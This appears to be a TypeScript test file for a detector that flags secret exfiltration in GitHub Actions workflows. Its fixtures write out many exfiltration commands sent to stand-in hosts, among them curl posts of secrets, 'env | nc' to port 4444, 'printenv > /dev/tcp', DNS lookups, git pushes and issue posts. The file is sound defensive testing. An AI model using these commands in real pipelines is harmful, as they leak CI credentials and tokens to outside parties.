import detector from "../../../../src/engine/detectors/workflows/workflow-secret-exfil.ts";
import { NPM_HOST } from "../../../../src/engine/model/dependency-examples.ts";
import type { WorkflowStep } from "../../../../src/engine/model/facts/workflow.ts";
import { aStep, aWorkflow, aWorkflowCommit } from "../../../../src/engine/model/workflow-examples.ts";

/** `X` → `${{ secrets.X }}`, put together so that no test file holds an expression. */
const secret = (name: string) => ["$", "{{ secrets.", name, " }}"].join("");
const ALL = ["$", "{{ toJSON(secrets) }}"].join("");

function strengths(steps: readonly Partial<WorkflowStep>[], trustedHosts: string[] = []): string[] {
  const commit = aWorkflowCommit(aWorkflow({ steps: steps.map((step) => aStep(step)) }));
  return detector
    .detect(commit, { trustedHosts })
    .map(({ strength, facts }) => `${strength} ${String(facts?.["sink"])}`);
}

test.each([
  ["another vendor's token in the body", `curl -d "x=${secret("NPM_TOKEN")}" https://a.example.net`, "strong request"],
  [
    "a token under its own name",
    `curl -d "NPM_TOKEN=${secret("NPM_TOKEN")}" https://a.example.net`,
    "decisive request",
  ],
  [
    "a secret of no known house, spelled out",
    `curl -d "DEPLOY_TOKEN=${secret("DEPLOY_TOKEN")}" https://a.example.net`,
    "strong request",
  ],
  [
    "a secret of no known house, as a field of its name",
    `curl -d "deploy_token=${secret("DEPLOY_TOKEN")}" https://a.example.net`,
    "medium request",
  ],
  [
    "two vendors' tokens as JSON",
    `curl --json '{"a":"${secret("NPM_TOKEN")}","b":"${secret("AWS_SECRET")}"}' https://a.example.net`,
    "decisive request",
  ],
  [
    "a token in a request that is collected",
    `curl "https://x.webhook.site/?t=${secret("DEPLOY_TOKEN")}"`,
    "strong request",
  ],
  ["all secrets, piped", `echo '${ALL}' | curl -d @- https://a.example.net`, "decisive request"],
  ["the environment, piped to a socket", "env | nc a.example.net 4444", "decisive request"],
  ["the environment, to a device", "printenv > /dev/tcp/203.0.114.9/443", "decisive request"],
  [
    "the environment from Python",
    `python3 - <<'EOF'\nimport os, requests\nrequests.post("https://a.example.net", json=dict(os.environ))\nEOF`,
    "decisive request",
  ],
  [
    "a file that an earlier command wrote",
    "env > /tmp/out\ncurl -F f=@/tmp/out https://a.example.net",
    "decisive request",
  ],
  [
    "a variable that holds it",
    `T=${secret("PYPI_API_TOKEN")}\nB="tok=$T"\ncurl -d "$B" https://a.example.net`,
    "strong request",
  ],
  ["continued over lines", `curl -s \\\n  -d "k=${secret("NPM_TOKEN")}" \\\n  https://a.example.net`, "strong request"],
  ["a name that is looked up", `dig ${secret("NPM_TOKEN")}.a.example.net`, "strong dns"],
  ["printed, encoded", `echo ${secret("NPM_TOKEN")} | base64`, "strong log"],
  ["printed, encoded twice", `echo ${secret("API_KEY")} | base64 | base64`, "decisive log"],
  ["printed letter by letter", `echo ${secret("NPM_TOKEN")} | sed 's/./& /g'`, "strong log"],
  [
    "pushed to a branch",
    `echo '${ALL}' > s.json\ngit add s.json\ngit commit -m x\ngit push origin HEAD:x`,
    "decisive git",
  ],
  ["posted in an issue", `gh issue create --title x --body '${ALL}'`, "decisive post"],
])("flags %s", (_, run, expected) => {
  expect(strengths([{ run }])).toEqual([expected]);
});

test("flags what one step writes and a later one uploads", () => {
  expect(
    strengths([
      { run: `echo '${ALL}' > dump.json` },
      { uses: "actions/upload-artifact@v4", inputs: { name: "x", path: "dump.json" } },
    ]),
  ).toEqual(["decisive artifact"]);
});

test("follows the environment of the step, the job and the workflow", () => {
  const step = aStep({ run: 'curl -d "$A $B" https://a.example.net' });
  const facts = aWorkflow({
    env: { A: secret("NPM_TOKEN") },
    jobs: [{ ...aWorkflow().jobs[0], env: { B: secret("AWS_KEY") } } as never],
    steps: [step],
  });
  expect(detector.detect(aWorkflowCommit(facts), { trustedHosts: [] })).toEqual([
    {
      strength: "decisive",
      confidence: 1,
      because: "secrets AWS_KEY, NPM_TOKEN are sent to a.example.net",
      path: ".github/workflows/ci.yml",
      line: 11,
      facts: { sink: "request", secrets: 2, place: "content" },
      matched: "request a.example.net AWS_KEY NPM_TOKEN",
    },
  ]);
});

test("flags a script of github-script that sends the environment", () => {
  const script = "await fetch('https://a.example.net', { method: 'POST', body: JSON.stringify(process.env) })";
  expect(strengths([{ uses: "actions/github-script@v7", inputs: { script } }])).toEqual(["decisive request"]);
});

test.each([
  [
    "a login at its own vendor",
    `curl -d "username=${secret("DOCKERHUB_USERNAME")}&password=${secret("DOCKERHUB_TOKEN")}" https://hub.docker.com/v2/users/login`,
  ],
  [
    "a token in a header of GitHub's API",
    `curl -H "Authorization: Bearer ${secret("GITHUB_TOKEN")}" https://api.github.com/repos/a/b/dispatches -d '{"event_type":"x"}'`,
  ],
  [
    "a chat message through a hook that is a secret",
    `curl -X POST -H 'Content-type: application/json' --data '{"text":"released"}' ${secret("SLACK_WEBHOOK")}`,
  ],
  [
    "a bot's message",
    `curl -s "https://api.telegram.org/bot${secret("TELEGRAM_TOKEN")}/sendMessage" -d chat_id=${secret("TELEGRAM_CHAT_ID")} -d text=done`,
  ],
  [
    "a deployment hook with its token",
    `curl -fsS -X POST "https://deploy.example.org/hook?token=${secret("DEPLOY_TOKEN")}"`,
  ],
  [
    "a trigger of one's own server",
    `curl -F token=${secret("TRIGGER_TOKEN")} -F ref=main https://git.example.org/api/v4/projects/1/trigger`,
  ],
  [
    "publishing with a token in the environment",
    `npm config set //${NPM_HOST}/:_authToken=${secret("NPM_TOKEN")}\nnpm publish`,
  ],
  ["a login by standard input", `echo ${secret("GHCR_TOKEN")} | docker login ghcr.io -u x --password-stdin`],
  ["a key decoded to a file", `echo ${secret("SSH_KEY")} | base64 -d > ~/.ssh/id_rsa\nchmod 600 ~/.ssh/id_rsa`],
  [
    "a header made of user and password",
    `AUTH=$(printf '%s' "${secret("JIRA_USER")}:${secret("JIRA_TOKEN")}" | base64)\ncurl -H "Authorization: Basic $AUTH" https://jira.example.org/rest/api`,
  ],
  [
    "trusted publishing by hand",
    `TOKEN=$(curl -s -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi" | jq -r .value)`,
  ],
  ["a comment on a pull request", `gh pr comment 1 --body "done"`],
  ["showing the environment", "env | sort"],
  ["a download without secrets", "curl -fsSL https://a.example.net/tool.tar.gz | tar xz"],
  ["a service on the machine itself", `curl -d "password=${secret("AWS_SECRET")}" http://localhost:8080/setup`],
])("passes %s", (_, run) => {
  expect(strengths([{ run }])).toEqual([]);
});

test("passes hosts that the policy trusts", () => {
  expect(
    strengths([{ run: `curl -d "NPM_TOKEN=${secret("NPM_TOKEN")}" https://a.example.net` }], ["a.example.net"]),
  ).toEqual([]);
});

test("passes the removal of a theft", () => {
  const bad = aWorkflow({ steps: [aStep({ run: `curl -d '${ALL}' https://a.example.net` }), aStep({ run: "make" })] });
  expect(
    detector.detect(aWorkflowCommit(aWorkflow({ steps: [aStep({ run: "make" })] }), bad), { trustedHosts: [] }),
  ).toEqual([]);
});

test("takes little time for hostile scripts", () => {
  const started = performance.now();
  for (const piece of [
    "$(",
    "<<E\n",
    "'",
    "curl -d $A ",
    "| base64 ",
    "> a ",
    secret("A"),
    "[[[[",
    "\\\n",
    "# \n",
    "nc a.b.c ",
    "/proc/1/",
  ]) {
    strengths([{ run: piece.repeat(40_000 / piece.length), env: { A: secret("B") } }]);
  }
  expect(performance.now() - started).toBeLessThan(10_000);
});
